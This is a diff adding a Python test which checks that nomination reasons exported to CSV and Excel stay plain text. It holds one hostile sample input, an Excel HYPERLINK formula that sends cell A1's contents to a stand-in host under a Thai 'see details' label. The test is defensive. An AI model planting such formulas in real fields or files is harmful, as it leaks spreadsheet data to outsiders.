@@ -308,3 +308,19 @@ def test_anonymous_and_forged_requests_are_refused(bot, anonymous, console):
                         csrf=False).status_code == 400
     assert honours(bot) == set() and count_rows(bot, Staff) == 6
     assert console.get("/console/nominations/999").status_code == 404
+
+
+def test_a_reason_that_looks_like_a_formula_stays_text_in_the_downloads(bot, console):
+    """Reasons are typed by anyone in LINE; a coordinator opens the downloads in Excel."""
+    round_id = open_now(bot, console)
+    trap = '=HYPERLINK("https://example.invalid/?"&A1,"ดูรายละเอียด")'
+    with bot.db.session() as db:
+        nominations.nominate(db, db.get(NominationRound, round_id), by_code(db, "S01"), "person", "วินัย", trap,
+                             now_of(bot), nominee=by_code(db, "S03"))
+    body = console.get(f"/console/nominations/{round_id}/tally.csv").data.decode("utf-8")
+    reasons = {row[9] for row in csv.reader(io.StringIO(body[1:]))}
+    assert "'" + trap in reasons and trap not in reasons
+    workbook = load_workbook(io.BytesIO(console.get(f"/console/nominations/{round_id}/tally.xlsx").data))
+    cells = [row[9] for row in workbook.active.iter_rows(min_row=2)]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+    assert {cell.value for cell in cells} == {trap}
